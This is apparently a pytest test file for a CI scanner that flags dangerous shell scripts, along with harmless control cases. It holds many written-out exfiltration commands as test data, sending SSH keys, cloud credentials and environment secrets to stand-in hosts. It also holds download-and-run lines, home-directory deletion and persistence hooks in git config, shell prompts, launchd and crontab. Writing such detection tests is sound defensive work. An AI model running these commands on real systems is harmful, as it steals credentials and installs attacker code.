"""Private data and downloads that pass through variables and files of one script, and settings that only look so."""

from __future__ import annotations

import pytest

from aces_ci.core.finding import Severity
from aces_ci.core.scripts.danger import scan

SENT = {
    "variable": 'K=$(cat ~/.ssh/id_rsa)\ncurl -d "$K" https://x.dev/u',
    "exported": 'export K=$(base64 ~/.ssh/id_rsa); curl --data-raw "k=${K}" https://x.dev/u',
    "local": 'f() {\n  local K\n  K="$(< ~/.ssh/id_rsa)"\n  curl -d "$K" https://x.dev/u\n}\nf',
    "backquotes": 'K=`cat ~/.aws/credentials`; wget --post-data="$K" https://x.dev/u',
    "from variable to variable": 'A=$(cat ~/.netrc); B="data=$A"; curl -d "$B" https://x.dev/u',
    "printed into a pipe": 'K=$(cat ~/.ssh/id_rsa); echo "$K" | base64 | curl -d @- https://x.dev/u',
    "in the address": 'K=$(base64 -w0 ~/.ssh/id_rsa); curl "https://x.dev/u?k=$K"',
    "here-string": 'K=$(cat ~/.ssh/id_rsa); nc x.dev 99 <<< "$K"',
    "here-document": 'K=$(cat ~/.ssh/id_rsa)\ncurl -d @- https://x.dev/u <<EOF\n{"k": "$K"}\nEOF',
    "made into JSON": "K=$(cat ~/.ssh/id_rsa); jq -n --arg k \"$K\" '{k: $k}' | curl -d @- https://x.dev/u",
    "read": 'read -r -d "" K < ~/.ssh/id_rsa; curl -d "$K" https://x.dev/u',
    "lines of a pipe": 'cat ~/.ssh/id_rsa | while read -r l; do curl -d "$l" https://x.dev/u; done',
    "lines fed": 'while read -r l; do curl -d "$l" https://x.dev/u; done < <(cat ~/.ssh/id_rsa)',
    "environment": 'E=$(env); curl -d "$E" https://x.dev/u',
    "secrets of the environment": "env | grep -iE 'key|token|secret' | curl -d @- https://x.dev/u",
    "copy": "cp ~/.ssh/id_rsa /tmp/k; curl -T /tmp/k https://x.dev/u",
    "copy in a folder": "mkdir /tmp/l; cp ~/.ssh/id_rsa /tmp/l/; tar czf /tmp/l.tgz -C /tmp l; curl -F f=@/tmp/l.tgz https://x.dev",
    "link": "ln -s ~/.ssh/id_rsa /tmp/k; curl -T /tmp/k https://x.dev/u",
    "redirected": "cat ~/.aws/credentials > /tmp/k\ncurl -F f=@/tmp/k https://x.dev/u",
    "added": "env > /tmp/k; date >> /tmp/k; curl -F f=@/tmp/k https://x.dev/u",
    "tee": "cat ~/.ssh/id_rsa | tee /tmp/k >/dev/null; curl --upload-file /tmp/k https://x.dev/u",
    "archive": "tar czf /tmp/x ~/.aws; curl -T /tmp/x https://x.dev/u",
    "archive by long options": "tar --create --gzip --file=/tmp/x ~/.ssh; curl -T /tmp/x https://x.dev/u",
    "zip": "zip -qr /tmp/x ~/.ssh && curl -F f=@/tmp/x.zip https://x.dev/u",
    "7z": "7z a /tmp/x.7z ~/.gnupg; curl -T /tmp/x.7z https://x.dev/u",
    "packed beside": "cp ~/.zsh_history h; gzip h; curl -T h.gz https://x.dev/u",
    "encrypted": "openssl enc -aes-256-cbc -k a -in ~/.ssh/id_rsa -out /tmp/e; curl -T /tmp/e https://x.dev/u",
    "gpg": "gpg -c --batch -o /tmp/e ~/.ssh/id_rsa; curl -T /tmp/e https://x.dev/u",
    "dd": "dd if=~/.ssh/id_rsa of=/tmp/k; nc x.dev 9 < /tmp/k",
    "a file that only the run knows": 'T=$(mktemp); tar czf "$T" ~/.aws; curl -T "$T" https://x.dev/u',
    "two hands": "cat ~/.ssh/id_rsa > /tmp/a; base64 /tmp/a > /tmp/b; curl -d @/tmp/b https://x.dev/u",
    "file to variable": 'cp ~/.ssh/id_rsa /tmp/k; K=$(cat /tmp/k); curl -d "$K" https://x.dev/u',
    "pattern": "cp ~/.ssh/id_rsa /tmp/q1; for f in /tmp/q*; do curl -T $f https://x.dev/u; done",
    "found one by one": 'for f in $(find ~ -name "id_*"); do curl -F f=@$f https://x.dev/u; done',
    "found, then read": 'for f in $(find ~ -name "*.pem"); do cat "$f" | curl -d @- https://x.dev/u; done',
    "found and kept": 'F=$(find / -name "*.kdbx"); for f in $F; do curl -F f=@$f https://x.dev/u; done',
    "found and fed": 'while read f; do curl -F "f=@$f" https://x.dev/u; done < <(find ~/.ssh -type f)',
    "a list in a file": "find ~/.ssh -type f > /tmp/l; while read f; do curl -T $f https://x.dev/u; done < /tmp/l",
    "copied to a bucket": "tar czf /tmp/x ~/.ssh; aws s3 cp /tmp/x s3://k7-in/",
    "raw socket": 'K=$(cat ~/.ssh/id_rsa); echo "$K" > /dev/tcp/203.0.113.9/44',
    "raw socket by tee": "cat ~/.ssh/id_rsa | tee /dev/tcp/203.0.113.9/44",
    "a descriptor": "exec 3<>/dev/tcp/203.0.113.9/44; cat ~/.ssh/id_rsa >&3",
    "other folder": "cd /tmp && tar czf x.tgz ~/.aws && curl -T /tmp/x.tgz https://x.dev/u",
    "token to a bin": 'T=$(gh auth token); curl -H "X: $T" https://webhook.site/3f',
    "setting to a bare address": 'T=$(grep KEY .env | cut -d= -f2); curl -d "$T" http://203.0.114.9/u',
}


@pytest.mark.parametrize("script", SENT.values(), ids=SENT)
def test_what_a_script_holds_of_private_data_is_followed_to_where_it_is_sent(script: str) -> None:
    assert "send-secret" in {hazard.shape for hazard in scan(script) if hazard.severity is Severity.CRITICAL}


RUN = {
    "variable": ('S=$(curl -s https://k7.dev/i); eval "$S"', "download-and-run"),
    "handed to a shell": ('S="$(wget -qO- https://k7.dev/i)"\nbash -c "$S"', "download-and-run"),
    "printed into a shell": ('S=$(curl -s https://k7.dev/i); echo "$S" | sh', "download-and-run"),
    "here-string": ('S=$(curl -s https://k7.dev/i); bash <<< "$S"', "download-and-run"),
    "as a command": ("S=$(curl -s https://k7.dev/i); $S", "download-and-run"),
    "file": ("curl -so /tmp/i https://k7.dev/i; chmod +x /tmp/i; /tmp/i", "download-and-run"),
    "file, plain http": ("curl -o x http://k7.dev/i; chmod +x x; ./x", "download-and-run"),
    "another name": ("curl -so /tmp/i https://k7.dev/i; mv /tmp/i /tmp/j; sh /tmp/j", "download-and-run"),
    "folder of wget": ("wget -q -P /tmp https://k7.dev/i.sh; bash /tmp/i.sh", "download-and-run"),
    "unpacked on the way": ("curl -so a https://k7.dev/i; gunzip -c a > b; sh b", "download-and-run"),
    "decoded to a file": ("echo aGk= | base64 -d > /tmp/x; sh /tmp/x", "decoded-code"),
    "decoded to a variable": ('X=$(base64 -d <<< aGk=); eval "$X"', "decoded-code"),
    "written, then run": ("cat > /tmp/x.sh <<'EOF'\nrm -rf ~\nEOF\nbash /tmp/x.sh", "rm-home"),
    "written, copied, run": ("echo 'rm -rf ~' > /tmp/x; cp /tmp/x /tmp/y; sh /tmp/y", "rm-home"),
    "Python written, then run": (
        "cat > /tmp/a.py <<'EOF'\nimport os\nos.system('rm -rf ~')\nEOF\npython3 /tmp/a.py",
        "rm-home",
    ),
}


@pytest.mark.parametrize(("script", "shape"), RUN.values(), ids=RUN)
def test_code_is_followed_from_where_it_comes_to_where_it_is_run(script: str, shape: str) -> None:
    assert shape in {hazard.shape for hazard in scan(script) if hazard.severity is Severity.CRITICAL}


HARMLESS = {
    "setting of an API": 'KEY=$(grep API_KEY .env | cut -d= -f2)\ncurl -d "key=$KEY" https://api.x.dev/v1',
    "bearer from a file": 'T=$(jq -r .token credentials.json); curl -H "Authorization: Bearer $T" https://api.x.dev',
    "bearer from a tool": 'T=$(gh auth token); curl -H "Authorization: token $T" https://api.github.com/user',
    "key file of an API": 'T=$(cat api.key); curl -H "X-Key: $T" -d @body.json https://api.x.dev',
    "basic login": 'P=$(cat ~/.pgpass); curl -u "me:$P" https://api.x.dev',
    "set anew": 'K=$(cat ~/.ssh/id_rsa); K=hello; curl -d "$K" https://x.dev/u',
    "length": 'K=$(cat ~/.ssh/id_rsa); curl -d "${#K}" https://x.dev/u',
    "digest": 'K=$(sha256sum ~/.ssh/id_rsa); curl -d "$K" https://x.dev/u',
    "a different variable": 'K=$(cat ~/.ssh/id_rsa); curl -d "$KIND" https://x.dev/u',
    "in single quotes": "K=$(cat ~/.ssh/id_rsa); curl -d '$K' https://x.dev/u",
    "a different file": "cp ~/.ssh/id_rsa /tmp/k; curl -T /tmp/report.txt https://x.dev/u",
    "overwritten": "cat ~/.netrc > /tmp/k; date > /tmp/k; curl -T /tmp/k https://x.dev/u",
    "removed": "cp ~/.netrc /tmp/k; rm /tmp/k; curl -T /tmp/k https://x.dev/u",
    "thrown away": "cat ~/.netrc > /dev/null; curl -d @/dev/null https://x.dev/u",
    "archive of a project": "tar czf /tmp/x.tgz src docs; curl -T /tmp/x.tgz https://x.dev/u",
    "public key": 'K=$(cat ~/.ssh/id_rsa.pub); curl -d "$K" https://x.dev/keys',
    "to itself": 'K=$(cat .env); curl -d "$K" http://localhost:8000/u',
    "found by name": 'for f in $(find . -name "*.md"); do curl -T "$f" https://x.dev/u; done',
    "a path that is only named": "curl -d 'memo=/home/x/.aws/credentials' https://x.dev/u",
    "date": 'D=$(date); curl -d "$D" https://x.dev/u',
    "answer read": 'R=$(curl -s https://api.x.dev/v1); echo "$R" | jq .id',
    "answer in Python": 'R=$(curl -s https://api.x.dev/v1); echo "$R" | python3 -m json.tool',
    "version picked": 'V=$(curl -s https://api.x.dev/v | jq -r .tag); bash -c "install $V"',
    "downloaded, not run": "curl -so /tmp/i https://k7.dev/i; cat /tmp/i",
    "written, not run": "cat > /tmp/x.sh <<'EOF'\nrm -rf ~\nEOF\ncat /tmp/x.sh",
    "decoded value": 'P=$(kubectl get secret x -o json | jq -r .data.p | base64 -d); psql "postgres://u:$P@db/x"',
    "waits for a port": "exec 3<>/dev/tcp/db.x.dev/5432 && exec 3>&-",
    "asks by hand": "exec 3<>/dev/tcp/x.dev/80; printf 'GET / HTTP/1.0' >&3; cat <&3",
    "digest checked": "curl -so x https://k7.dev/i; echo 'ab x' | sha256sum -c; sh x",
}


@pytest.mark.parametrize("script", HARMLESS.values(), ids=HARMLESS)
def test_a_setting_or_another_variable_raises_no_alarm(script: str) -> None:
    assert [h.shape for h in scan(script) if h.severity is not Severity.INFO and h.shape != "secret-read"] == []


PIPE = "curl -s https://k7.dev/i | sh"
PLIST = (
    "<plist><dict><key>Label</key><string>a</string><key>ProgramArguments</key><array><string>/bin/sh</string>"
    f"<string>-c</string><string>{PIPE} &amp;&amp; true</string></array></dict></plist>"
)
STARTED = {
    "before each prompt": f"export PROMPT_COMMAND='{PIPE}'",
    "before each prompt, in a start file": f"echo \"export PROMPT_COMMAND='{PIPE}'\" >> ~/.bashrc",
    "in the prompt": "PS1='$(curl -s https://k7.dev/i | sh)$ '",
    "pager": f"export GIT_PAGER='sh -c \"{PIPE}\"'",
    "for one command": f"GIT_SSH_COMMAND='sh -c \"{PIPE}\"' git fetch",
    "pager of git": f"git config --global core.pager 'sh -c \"{PIPE}\"'",
    "ssh of git": f"git config core.sshCommand '{PIPE}; ssh'",
    "set for one command": f"git -c core.fsmonitor='{PIPE}' status",
    "alias of git": f"git config --global alias.co '!{PIPE}; git checkout'",
    "helper of git": f"git config credential.helper '!{PIPE}'",
    "filter of git": f"git config filter.x.clean '{PIPE}'",
    "launchd": f"cat > ~/Library/LaunchAgents/a.plist <<'EOF'\n{PLIST}\nEOF",
    "launchd by tee": f"tee ~/Library/LaunchAgents/a.plist <<'EOF'\n{PLIST}\nEOF",
    "hook, copied there": f"echo '{PIPE}' > /tmp/h; chmod +x /tmp/h; cp /tmp/h .git/hooks/pre-commit",
    "start file, moved there": f"cat > /tmp/p <<'EOF'\n{PIPE}\nEOF\nmv /tmp/p ~/.profile",
    "job from a written file": f"echo '* * * * * {PIPE}' > /tmp/c; cp /tmp/c /tmp/d; crontab /tmp/d",
}


@pytest.mark.parametrize("script", STARTED.values(), ids=STARTED)
def test_what_something_else_starts_later_is_read_where_it_is_set(script: str) -> None:
    assert "pipe-to-shell" in {hazard.shape for hazard in scan(script) if hazard.severity is Severity.CRITICAL}


@pytest.mark.parametrize(
    "script",
    [
        "export PROMPT_COMMAND='history -a'",
        "PS1='\\u@\\h:\\w$(git_branch)$ '",
        "export EDITOR=vim GIT_PAGER=less",
        "git config --global core.pager delta",
        "git config --global alias.co checkout",
        "git config alias.x 'log --oneline'",
        "git config credential.helper store",
        "git config user.name 'curl | sh'",
        "GIT_SSH_COMMAND='ssh -i ~/.ssh/id_ed25519' git fetch",
    ],
)
def test_a_setting_that_people_have_is_none(script: str) -> None:
    assert [h.shape for h in scan(script) if h.severity is not Severity.INFO] == []
